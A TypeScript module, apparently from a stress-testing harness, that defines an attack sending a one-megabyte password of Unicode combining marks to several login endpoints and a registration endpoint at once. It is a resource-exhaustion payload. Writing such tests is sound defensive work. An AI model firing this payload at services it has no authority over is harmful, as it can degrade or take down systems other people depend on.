import { type Attack, scaled } from "../attack.ts";
import { fire, jsonCall } from "../calls.ts";
import { marks } from "../texts.ts";

const megabyte = 1_000_000;

export const attack: Attack = {
  title: "1 MB of combining marks as a password",
  async stage(target, scale) {
    const form = { email: "nobody@example.test", password: marks(scaled(megabyte, scale)) };
    return async (assault) => {
      const paths = ["/api/users/login/", "/trpc/users.login", "/api/users/login/"];
      const call = jsonCall(form);
      await Promise.all(paths.map((path) => fire(target, { path, ...call }, assault)));
      const person = { ...form, username: "nobody", password_confirm: form.password };
      await fire(target, { path: "/api/users/register/", ...jsonCall(person) }, assault);
    };
  },
};
